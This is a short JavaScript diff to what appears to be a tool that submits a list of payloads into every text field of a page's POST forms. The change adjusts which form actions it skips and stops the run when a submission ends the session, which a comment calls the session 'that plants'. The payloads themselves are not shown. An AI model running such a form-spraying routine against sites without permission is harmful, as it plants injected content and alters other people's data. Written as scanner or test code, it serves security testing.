@@ -4,7 +4,7 @@
   let sent = 0, kept = 0;
   const text = "input:not([type]), input[type=text], input[type=search], textarea";
   for (const form of document.querySelectorAll("form[method=post]")) {
-    if (/\/(logout|login|password|factor|remove|arm|disable|reset|revoke)/.test(form.getAttribute("action"))) continue;
+    if (/\/(logout|password|factor|arm|revoke|accounts\/admin)\b/.test(form.getAttribute("action"))) continue; // these end the session that plants
     for (const payload of payloads) {
       const values = new FormData(form);
       for (const field of form.querySelectorAll(text)) {
@@ -14,6 +14,7 @@
       values.set("key", crypto.randomUUID());
       const answer = await fetch(form.action, { method: "POST", body: form.enctype === "multipart/form-data" ? values : new URLSearchParams(values), headers: { Accept: "text/html" } });
       sent++;
+      if (new URL(answer.url).pathname === "/login") throw new Error(`${form.action} ended the session`);
       if (answer.status === 413 || answer.status >= 500) throw new Error(`${form.action} answers ${answer.status}`);
       if (answer.ok) kept++;
       const page = new DOMParser().parseFromString(await answer.text(), "text/html");
